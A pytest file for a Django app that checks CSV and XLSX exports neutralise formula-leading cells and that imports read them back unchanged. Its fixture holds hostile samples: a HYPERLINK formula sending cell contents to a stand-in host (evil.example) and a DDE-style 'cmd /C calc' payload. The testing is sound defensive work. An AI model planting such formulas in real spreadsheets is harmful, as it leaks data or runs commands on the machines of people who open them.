"""An exported cell never holds a live formula (issue 29, item 1): text a spreadsheet would run
(beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is written as text, in
CSV and XLSX alike, and both imports (the admin's, ``import_items``) read it back unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from items.api.cells import neutralised, restored
from items.models import Item
from tests.support.factories import ItemFactory

pytestmark = pytest.mark.django_db(transaction=True)
EXPORT, IMPORT = "/admin/items/item/export/", "/admin/items/item/import/"
PROCESS = "/admin/items/item/process_import/"
FORMATS = {"csv": "0", "xlsx": "1", "json": "2"}
FIELDS = ("id", "name", "description", "price", "category", "tags", "is_active")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def hostile():
    return [
        ItemFactory(name=EVIL, description="+1+cmd|' /C calc'!A0", tags=["@SUM(1+1)", "b"]),
        ItemFactory(name="-2+3", description="=1+1", tags=["=x"]),
        ItemFactory(name="'=already marked", description="'plain quote", tags=[]),
    ]


def exported(client, file_format: str) -> bytes:
    chosen = {f"itemresource_{name}": "on" for name in FIELDS}
    response = client.post(EXPORT, {"format": FORMATS[file_format], "resource": "0", **chosen})
    assert response.status_code == 200, response.content[:500]
    return response.content


def stored(items) -> dict:
    return {
        str(item.pk): (item.name, item.description, item.tags)
        for item in Item.objects.filter(pk__in=[i.pk for i in items])
    }


def test_the_xlsx_export_holds_text_where_a_formula_was_written(admin_client, hostile):
    sheet = load_workbook(io.BytesIO(exported(admin_client, "xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == 3
    for row in cells:
        for name in ("name", "description", "tags"):
            assert row[name].data_type != "f", (name, row[name].value)
    by_id = {row["id"].value: row for row in cells}
    evil = by_id[str(hostile[0].pk)]
    assert evil["name"].data_type == "s" and evil["name"].value == "'" + EVIL
    assert evil["description"].value.startswith("'+")
    assert evil["tags"].value == "'@SUM(1+1), b"
    assert by_id[str(hostile[2].pk)]["description"].value == "'plain quote"  # not a formula


def test_the_csv_export_marks_every_cell_a_spreadsheet_would_run(admin_client, hostile):
    text = exported(admin_client, "csv").decode("utf-8-sig")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [v for row in rows.values() for v in row.values() if v.startswith(starts)]
    assert rows[str(hostile[1].pk)]["name"] == "'-2+3"
    assert rows[str(hostile[2].pk)]["name"] == "''=already marked"


def test_the_json_export_keeps_the_values_exact(admin_client, hostile):
    rows = {row["id"]: row for row in json.loads(exported(admin_client, "json"))}
    assert rows[str(hostile[0].pk)]["name"] == EVIL
    assert rows[str(hostile[0].pk)]["tags"] == ["@SUM(1+1)", "b"]  # a list, as JSON imports want


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admin_import_reads_the_export_back_unchanged(admin_client, hostile, file_format):
    before = stored(hostile)
    content = exported(admin_client, file_format)
    Item.objects.filter(pk__in=[i.pk for i in hostile]).update(name="changed", description="")
    upload = SimpleUploadedFile(f"back.{file_format}", content)
    page = admin_client.post(IMPORT, {"import_file": upload, "format": FORMATS[file_format]})
    form = page.context["confirm_form"]
    admin_client.post(PROCESS, {name: form.initial[name] for name in form.fields})
    assert stored(hostile) == before


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_import_items_reads_the_export_back_unchanged(admin_client, hostile, file_format, tmp_path):
    before = stored(hostile)
    path = tmp_path / f"back.{file_format}"
    path.write_bytes(exported(admin_client, file_format))
    Item.objects.filter(pk__in=[i.pk for i in hostile]).update(name="changed", description="")
    call_command("import_items", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    assert stored(hostile) == before


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@A1", "\tx", "\rx", "'=1", "''x", "'x", "'", "x=1", ""]
)
def test_the_text_mark_is_added_only_where_needed_and_always_taken_off(text):
    assert restored(neutralised(text)) == text
    marked = neutralised(text)
    assert not marked.startswith(("=", "+", "-", "@", "\t", "\r"))
    runnable = text.startswith(("=", "+", "-", "@", "\t", "\r"))
    quoted_mark = text[:1] == "'" and text[1:2] != "" and text[1:2] in "=+-@\t\r'"
    assert (marked != text) == (runnable or quoted_mark)
